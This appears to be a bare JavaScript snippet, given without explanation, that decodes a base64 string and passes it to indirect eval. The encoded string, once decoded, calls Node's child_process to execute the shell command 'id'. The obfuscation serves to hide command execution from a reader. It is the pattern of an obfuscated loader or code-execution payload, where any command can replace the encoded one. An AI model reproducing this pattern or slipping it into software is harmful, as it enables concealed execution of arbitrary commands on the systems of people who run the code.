const p = 'cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ2lkJyk=';
(0, eval)(atob(p));
